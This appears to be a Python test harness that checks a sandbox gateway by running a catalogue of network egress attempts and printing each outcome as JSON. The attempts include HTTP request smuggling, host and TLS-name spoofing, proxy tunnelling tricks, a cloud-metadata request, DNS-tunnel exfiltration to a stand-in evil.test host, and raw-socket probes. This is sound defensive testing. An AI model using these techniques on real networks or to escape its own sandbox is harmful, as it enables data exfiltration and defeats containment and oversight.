"""Network attacks, one by one, from inside a sandbox that may only receive from two origins.

Arguments: the ports of a web server, a TLS web server and an echo server. Prints one line of JSON for each attack:
its name and what came of it: the status of an answer, bytes, or the kind of the error.
"""
import json
import socket
import ssl
import struct
import sys

WEB, SECURE, ECHO = (int(text) for text in sys.argv[1:4])
HOST = f"web.test:{WEB}"
PROXY = ("127.0.0.1", 15001)
WAIT_S = 30


def heard(stream):
    data = b""
    try:
        while b"\r\n\r\n" not in data and len(data) < 65536:
            chunk = stream.recv(4096)
            if not chunk:
                break
            data += chunk
    except (ConnectionError, ssl.SSLError, TimeoutError) as error:
        return type(error).__name__
    if not data:
        return "closed"
    head = data.split(b"\r\n\r\n")[0]
    line = head.split(b"\r\n")[0].decode("latin1")
    # A server that is reached may refuse as well: only the gateway says that it was the one.
    return f"{line} (sallyport)" if b"\r\nx-sallyport: denied" in head.lower() else line


def talk(data, to=("web.test", WEB), before=None):
    with socket.create_connection(to, WAIT_S) as stream:
        if before:
            before(stream)
        stream.sendall(data)
        return heard(stream)


def talk_tls(data, name="secure.test", to=None, protocols=("http/1.1",)):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.set_alpn_protocols(list(protocols))
    with socket.create_connection(to or ("secure.test", SECURE), WAIT_S) as plain:
        with context.wrap_socket(plain, server_hostname=name) as stream:
            stream.sendall(data)
            return heard(stream)


def tunnel(stream):
    stream.sendall(f"CONNECT {HOST} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    assert heard(stream).split()[1] == "200"


def socks(host, port):
    def greet(stream):
        stream.sendall(b"\x05\x01\x00")
        assert stream.recv(2) == b"\x05\x00"
        stream.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + struct.pack(">H", port))
        answer = stream.recv(10)
        if answer[1] != 0:
            raise PermissionError(answer[1])

    return greet


def get(path="/", host=HOST, extra=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n".encode()


def post(path="/evil", host=HOST):
    return f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\n\r\nevil".encode()


def raw(lines):
    return "\r\n".join(lines).encode() + b"\r\n\r\n"


def second(first, then):
    with socket.create_connection(("web.test", WEB), WAIT_S) as stream:
        stream.sendall(first)
        one = heard(stream)
        stream.sendall(then)
        return [one, heard(stream)]


def opened(*arguments):
    with socket.socket(*arguments):
        return "opened"


def fast_open():
    with socket.socket() as stream:
        stream.sendto(post("/evil-fast-open"), 0x20000000, (socket.gethostbyname("web.test"), WEB))
        stream.settimeout(WAIT_S)
        return heard(stream)


def datagram(address, data=b"evil", port=443):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(1)
        stream.sendto(data, (address, port))
        return stream.recv(100).decode("latin1")


def datagrams():
    """To a name, both families, another port and no bytes at all; then what one socket hears, three times."""
    for family, place in (
        (socket.AF_INET, (socket.gethostbyname("quic.evil.test"), 443)),
        (socket.AF_INET6, ("2620:fe::fe", 443)),
        (socket.AF_INET, ("9.9.9.9", 444)),
    ):
        for _ in range(2):
            socket.socket(family, socket.SOCK_DGRAM).sendto(b"" if place[1] == 444 else b"evil", place)
    heard = []
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.connect(("2620:fe::fe", 443))
        for _ in range(2):
            try:
                s.send(b"evil")
                heard.append(s.recv(100).decode())
            except OSError as error:
                heard.append(type(error).__name__)
    return heard


def name_answer(name):
    return socket.gethostbyname(name)


def hidden_greeting():
    """A greeting with an encrypted one inside: extension fe0d."""
    name = b"secure.test"
    server_name = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    hidden = struct.pack(">HH", 0xFE0D, 4) + b"evil"
    extensions = server_name + hidden
    body = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return talk(b"\x16\x03\x01" + struct.pack(">H", len(message)) + message, ("secure.test", SECURE))


ATTACKS = {
    "a post where only receiving is allowed": lambda: talk(post()),
    "a get with a body": lambda: talk(get("/evil-body", extra="Content-Length: 4\r\n") + b"evil"),
    "a get with a chunked body": lambda: talk(
        get("/evil-chunked", extra="Transfer-Encoding: chunked\r\n") + b"4\r\nevil\r\n0\r\n\r\n"
    ),
    "clear text in a CONNECT tunnel": lambda: talk(post("/evil-tunnel"), PROXY, tunnel),
    "clear text over SOCKS": lambda: talk(post("/evil-socks"), PROXY, socks(b"web.test", WEB)),
    "a NUL in the host of SOCKS": lambda: talk(post(), PROXY, socks(b"evil\x00.web.test", WEB)),
    "a second request on an allowed connection": lambda: second(get("/fine"), post("/evil-second")),
    "a pipelined second request": lambda: talk(post("/evil-piped") + get("/fine")),
    "content length and transfer encoding": lambda: talk(
        get("/evil-cl-te", extra="Content-Length: 4\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n"
    ),
    "two content lengths": lambda: talk(
        get("/evil-cl-cl", extra="Content-Length: 0\r\nContent-Length: 4\r\n") + b"evil"
    ),
    "a folded header": lambda: talk(get("/evil-fold", extra="X: a\r\n b: c\r\n")),
    "bare line feeds": lambda: talk(f"GET /evil-lf HTTP/1.1\nHost: {HOST}\n\n".encode()),
    "two hosts": lambda: talk(get("/evil-two-hosts", extra="Host: evil.test\r\n")),
    "no host": lambda: talk(raw(["GET /evil-no-host HTTP/1.1"])),
    "the host of another": lambda: talk(get("/evil-host", host="evil.test")),
    "the host with a user": lambda: talk(get("/evil-user", host=f"web.test@{HOST}")),
    "an absolute target of another host": lambda: talk(raw(["GET http://evil.test/evil HTTP/1.1", f"Host: {HOST}"])),
    "a proxy request whose host is another": lambda: talk(
        raw([f"GET http://{HOST}/evil-proxy HTTP/1.1", "Host: evil.test"]), PROXY
    ),
    "a tunnel in a tunnel": lambda: talk(raw(["CONNECT evil.test:80 HTTP/1.1", "Host: evil.test"])),
    "an upgrade to h2c": lambda: talk(
        get("/evil-h2c", extra="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAA\r\n")
    ),
    "http 2 in clear text": lambda: talk(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)),
    "a method in small letters": lambda: talk(b"post /evil-small HTTP/1.1\r\nHost: x\r\n\r\n"),
    "the TLS name of another": lambda: talk_tls(get("/evil-sni", f"secure.test:{SECURE}"), name="evil.test"),
    "no TLS name": lambda: talk_tls(get("/evil-no-sni", f"secure.test:{SECURE}"), name=None),
    "the host of another under TLS": lambda: talk_tls(get("/evil-fronted", host="evil.test")),
    "a post under TLS": lambda: talk_tls(post("/evil-tls", f"secure.test:{SECURE}")),
    "clear text where TLS was allowed": lambda: talk(get("/evil", f"secure.test:{SECURE}"), ("secure.test", SECURE)),
    "a hidden TLS name": hidden_greeting,
    "a suffix of an allowed name": lambda: talk(get("/", f"evilweb.test:{WEB}"), ("evilweb.test", WEB)),
    "an allowed name as a prefix": lambda: talk(get("/", f"web.test.evil:{WEB}"), ("web.test.evil", WEB)),
    "another port of an allowed host": lambda: talk(get("/evil", f"web.test:{ECHO}"), ("web.test", ECHO)),
    "a raw address": lambda: talk(get("/evil-raw", f"9.9.9.9:{WEB}"), ("9.9.9.9", WEB)),
    "a raw address of IPv6": lambda: talk(get("/evil-raw6", f"[2620:fe::fe]:{WEB}"), ("2620:fe::fe", WEB)),
    "the address behind an allowed name": lambda: talk(get("/evil-ip"), ("127.0.0.1", WEB)),
    "cloud metadata": lambda: talk(get("/evil-meta", "169.254.169.254"), ("169.254.169.254", 80)),
    "an address of the range that no name has": lambda: talk(get("/evil"), ("198.19.255.254", WEB)),
    "bytes that are no protocol": lambda: talk(b"\x00\x01\x02\x03", ("web.test", WEB)),
    "TCP Fast Open": fast_open,
    "MPTCP": lambda: opened(socket.AF_INET, socket.SOCK_STREAM, 262),
    "vsock": lambda: opened(40, socket.SOCK_STREAM),
    "packet": lambda: opened(17, socket.SOCK_RAW),
    "netlink": lambda: opened(16, socket.SOCK_RAW),
    "a raw IP socket": lambda: opened(socket.AF_INET, socket.SOCK_RAW, 1),
    "a unix socket": lambda: opened(socket.AF_UNIX, socket.SOCK_STREAM),
    "QUIC": lambda: datagram("9.9.9.9"),
    "datagrams to many places": datagrams,
    "a DNS tunnel": lambda: name_answer("c2VjcmV0.evil.test"),
    "a DNS server of one's own": lambda: datagram("8.8.8.8", b"evil", 53),
    "DNS over TLS": lambda: talk_tls(b"evil", name="dns.evil", to=("9.9.9.9", 853)),
}

for title, attack in ATTACKS.items():
    try:
        outcome = attack()
    except Exception as error:  # noqa: BLE001
        outcome = type(error).__name__
    print(json.dumps({"attack": title, "outcome": outcome}), flush=True)
